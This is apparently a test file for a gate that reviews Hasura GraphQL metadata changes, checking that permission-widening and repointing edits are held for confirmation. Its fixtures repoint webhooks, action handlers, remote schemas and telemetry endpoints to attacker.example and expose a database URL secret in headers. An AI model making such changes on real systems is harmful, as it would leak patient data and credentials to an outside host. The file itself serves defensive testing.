// Changes that weaken production (or break its clients) which a review of the metadata analysis tried and found held
// for a confirmation, through the real analysers and the default policy: kept so they keep holding.
import { describe, expect, it } from 'vitest';
import { edited, inForce, judge, replace } from './meta-helpers.js';

type Edit = (m: Record<string, any>) => void;
const patients = (m: Record<string, any>) => m.sources[0].tables[0];
const select = (m: Record<string, any>) => patients(m).select_permissions[0].permission;

const EDITS: [string, Edit][] = [
  ['a select filter widened inside _and', (m) => { select(m).filter._and[0] = { id: { _is_null: false } }; }],
  ['a select filter widened to _or with true', (m) => { select(m).filter = { _or: [select(m).filter, { id: { _is_null: false } }] }; }],
  ['a select filter replaced by _exists on another table', (m) => { select(m).filter = { _exists: { _table: { schema: 'public', name: 'patients' }, _where: {} } }; }],
  ['select columns "*"', (m) => { select(m).columns = '*'; }],
  ['allow_aggregations flipped on', (m) => { select(m).allow_aggregations = true; }],
  ['the limit removed', (m) => { delete select(m).limit; }],
  ['query_root_fields / subscription_root_fields given', (m) => { select(m).query_root_fields = ['select', 'select_by_pk', 'select_aggregate']; select(m).subscription_root_fields = ['select_stream']; }],
  ['computed fields added to a permission', (m) => { select(m).computed_fields = ['full_history']; }],
  ['an insert check emptied', (m) => { patients(m).insert_permissions[0].permission.check = {}; }],
  ['an insert set preset removed', (m) => { delete patients(m).insert_permissions[0].permission.set; }],
  ['an insert made backend_only false/true', (m) => { patients(m).insert_permissions[0].permission.backend_only = true; }],
  ["a filter's condition flipped (deleted: true)", (m) => { select(m).filter._and[1] = { deleted: { _eq: true } }; }],
  ["an event trigger's webhook repointed", (m) => { patients(m).event_triggers[0].webhook = 'https://attacker.example/'; }],
  ["an event trigger's headers given an env secret", (m) => { patients(m).event_triggers[0].headers = [{ name: 'x', value_from_env: 'PG_DATABASE_URL' }]; }],
  ["an event trigger's columns widened", (m) => { patients(m).event_triggers[0].definition.update = { columns: '*' }; }],
  ["an action's handler repointed", (m) => { m.actions[0].definition.handler = 'https://attacker.example/login'; }],
  ["an action's kind sync to async", (m) => { m.actions[0].definition.kind = 'asynchronous'; }],
  ["an action forwarding client headers", (m) => { m.actions[0].definition.forward_client_headers = true; }],
  ["an action's request_transform", (m) => { m.actions[0].definition.request_transform = { version: 2, url: 'https://attacker.example', template_engine: 'Kriti' }; }],
  ["a remote schema's URL repointed", (m) => { m.remote_schemas[0].definition.url = 'https://attacker.example/graphql'; }],
  ["a remote schema forwarding client headers", (m) => { m.remote_schemas[0].definition.forward_client_headers = true; }],
  ["a remote schema permission's SDL widened", (m) => { m.remote_schemas[0].permissions[0].definition.schema = 'type Query { balance: Int, allAccounts: [String] }'; }],
  ['a remote schema permission for a new role', (m) => { m.remote_schemas[0].permissions.push({ role: 'anonymous', definition: { schema: 'type Query { balance: Int }' } }); }],
  ['an inherited role added', (m) => { m.inherited_roles = [{ role_name: 'user', role_set: ['manager'] }]; }],
  ['an allow-list entry removed', (m) => { m.allowlist = []; }],
  ['an allow-list entry made role-scoped', (m) => { m.allowlist[0].scope = { global: false, roles: ['user'] }; }],
  ['a query added to an allow-listed collection', (m) => { m.query_collections[0].definition.queries.push({ name: 'all', query: 'query { patients { id name } }' }); }],
  ['a TLS allow-list host added', (m) => { m.network = { tls_allowlist: [{ host: 'attacker.example', permissions: ['self-signed'] }] }; }],
  ['the source given a read replica written in', (m) => { m.sources[0].configuration.read_replicas = [{ database_url: 'postgres://u:pw@replica/db' }]; }],
  ['the source pool settings', (m) => { m.sources[0].configuration.connection_info.pool_settings.max_connections = 1; }],
  ['the source isolation level', (m) => { m.sources[0].configuration.connection_info.isolation_level = 'serializable'; }],
  ['the source URL from env written in', (m) => { m.sources[0].configuration.connection_info.database_url = 'postgres://u:pw@other/db'; }],
  ['the source URL from another env var', (m) => { m.sources[0].configuration.connection_info.database_url = { from_env: 'STAGING_DATABASE_URL' }; }],
  ['the source query_tags', (m) => { m.sources[0].query_tags = { disabled: true }; }],
  ["a table's custom_root_fields renamed", (m) => { patients(m).configuration = { custom_root_fields: { select: 'people' }, custom_name: 'people' }; }],
  ['is_enum flipped', (m) => { patients(m).is_enum = true; }],
  ['a logical model select permission added', (m) => { m.sources[0].logical_models = [{ name: 'Row', fields: [] }]; }],
  ['a REST endpoint repointed to another query', (m) => { m.rest_endpoints = [{ name: 'me', url: 'me', methods: ['GET'], definition: { query: { collection_name: 'allowed-queries', query_name: 'me' } } }]; }],
  ['a custom type narrowed', (m) => { m.custom_types.objects[0].fields = []; }],
  ['a cron trigger repointed', (m) => { m.cron_triggers = [{ name: 'nightly', webhook: 'https://x', schedule: '* * * * *' }]; }],
];

describe('replace_metadata changes held in production', () => {
  it.each(EDITS)('%s', async (_label, edit) => {
    const current = inForce();
    // Those that add something to the metadata in force put a first version in it, so the edit is a change.
    if (_label.startsWith('a logical model')) current.sources[0].logical_models = [{ name: 'Row', fields: [], select_permissions: [{ role: 'user', permission: { columns: [], filter: {} } }] }];
    if (_label.startsWith('a REST endpoint')) current.rest_endpoints = [{ name: 'me', url: 'me', methods: ['GET'], definition: { query: { collection_name: 'allowed-queries', query_name: 'other' } } }];
    if (_label.startsWith('a cron trigger')) current.cron_triggers = [{ name: 'nightly', webhook: 'https://y', schedule: '0 0 * * *' }];
    if (_label.startsWith('an inherited role')) current.inherited_roles = [{ role_name: 'user', role_set: ['reader'] }];
    const next = structuredClone(current);
    if (_label.startsWith('a logical model')) next.sources[0].logical_models[0].select_permissions.push({ role: 'anonymous', permission: { columns: [], filter: {} } });
    else edit(next);
    const result = await judge(replace(next), current);
    expect(result.level, result.keys).toBe('confirm');
  });

  it('the same metadata with keys reordered is no change, allowed', async () => {
    const reordered = JSON.parse(JSON.stringify(inForce(), (_k, v) => (v && typeof v === 'object' && !Array.isArray(v) ? Object.fromEntries(Object.entries(v).reverse()) : v)));
    const result = await judge(replace(reordered), inForce());
    expect(result.keys).toBe('read:metadata');
    expect(result.level).toBe('allow');
  });

  it('a version 1 replacement (args is the metadata) widening a permission is held too', async () => {
    const next = edited((m) => { select(m).filter = {}; });
    const result = await judge({ type: 'replace_metadata', args: next }, inForce());
    expect(result.level).toBe('confirm');
  });

  it('a metadata "version" given as a string is not understood', async () => {
    const next = edited((m) => { m.version = '3'; select(m).filter = {}; });
    const result = await judge(replace(next), inForce());
    expect(result.keys).toContain('unknown');
  });

  it('TLS allow-list entries in the string form Hasura also accepts are not understood (held)', async () => {
    const next = edited((m) => { m.network = { tls_allowlist: ['attacker.example'] }; });
    const result = await judge(replace(next), inForce());
    expect(result.level).toBe('confirm');
  });
});

const SINGLE: [string, Record<string, unknown>][] = [
  ['pg_create_select_permission over an existing role', { type: 'pg_create_select_permission', args: { source: 'default', table: { schema: 'public', name: 'patients' }, role: 'user', permission: { columns: '*', filter: {} } } }],
  ['pg_create_event_trigger with replace: true', { type: 'pg_create_event_trigger', args: { name: 'notify', table: { schema: 'public', name: 'patients' }, source: 'default', webhook: 'https://attacker.example', insert: { columns: '*' }, replace: true } }],
  ['pg_create_event_trigger with replace: "true" (a string)', { type: 'pg_create_event_trigger', args: { name: 'notify', table: { schema: 'public', name: 'patients' }, source: 'default', webhook: 'https://attacker.example', insert: { columns: '*' }, replace: 'true' } }],
  ['create_cron_trigger with replace: true', { type: 'create_cron_trigger', args: { name: 'nightly', webhook: 'https://attacker.example', schedule: '* * * * *', replace: true } }],
  ['update_remote_schema', { type: 'update_remote_schema', args: { name: 'payments', definition: { url: 'https://attacker.example' } } }],
  ['update_action', { type: 'update_action', args: { name: 'login', definition: { handler: 'https://attacker.example', kind: 'synchronous' } } }],
  ['set_graphql_schema_introspection_options', { type: 'set_graphql_schema_introspection_options', args: { disabled_for_roles: ['user'] } }],
  ['add_host_to_tls_allowlist', { type: 'add_host_to_tls_allowlist', args: { host: 'attacker.example', permissions: ['self-signed'] } }],
  ['pg_set_table_customization', { type: 'pg_set_table_customization', args: { source: 'default', table: { schema: 'public', name: 'patients' }, configuration: { custom_root_fields: { select: 'people' } } } }],
  ['pg_set_table_is_enum', { type: 'pg_set_table_is_enum', args: { source: 'default', table: { schema: 'public', name: 'patients' }, is_enum: true } }],
  ['pg_set_function_customization', { type: 'pg_set_function_customization', args: { source: 'default', function: 'f', configuration: { exposed_as: 'mutation' } } }],
  ['pg_create_function_permission', { type: 'pg_create_function_permission', args: { source: 'default', function: 'f', role: 'anonymous' } }],
  ['add_inherited_role', { type: 'add_inherited_role', args: { role_name: 'user', role_set: ['manager'] } }],
  ['update_scope_of_collection_in_allowlist', { type: 'update_scope_of_collection_in_allowlist', args: { collection: 'allowed-queries', scope: { global: true } } }],
  ['add_query_to_collection', { type: 'add_query_to_collection', args: { collection_name: 'allowed-queries', query_name: 'all', query: 'query { patients { name } }' } }],
  ['set_custom_types narrowing', { type: 'set_custom_types', args: { objects: [{ name: 'LoginOutput', fields: [] }] } }],
  ['set_opentelemetry_config', { type: 'set_opentelemetry_config', args: { status: 'enabled', exporter_otlp: { otlp_traces_endpoint: 'https://attacker.example' } } }],
  ['pg_update_source with a read replica only', { type: 'pg_update_source', args: { name: 'default', configuration: { connection_info: { database_url: { from_env: 'PG_DATABASE_URL' } }, read_replicas: [{ database_url: { from_env: 'OTHER' } }] } } }],
  ['pg_add_source replace_configuration on the source in force', { type: 'pg_add_source', args: { name: 'default', replace_configuration: true, configuration: { connection_info: { database_url: { from_env: 'OTHER' } } } } }],
  ['a bulk of drop + create of a permission (the console edit)', { type: 'bulk', args: [{ type: 'pg_drop_select_permission', args: { source: 'default', table: { schema: 'public', name: 'patients' }, role: 'user' } }, { type: 'pg_create_select_permission', args: { source: 'default', table: { schema: 'public', name: 'patients' }, role: 'user', permission: { columns: '*', filter: {} } } }] }],
];

describe('single metadata calls held in production', () => {
  it.each(SINGLE)('%s', async (_label, body) => {
    const result = await judge(body, inForce());
    expect(result.level, result.keys).toBe('confirm');
  });

  it('pg_set_permission_comment is a comment only: allowed', async () => {
    const result = await judge({ type: 'pg_set_permission_comment', args: { source: 'default', table: { schema: 'public', name: 'patients' }, role: 'user', type: 'select', comment: 'x' } });
    expect(result.keys).toBe('comment:permission');
    expect(result.level).toBe('allow');
  });
});
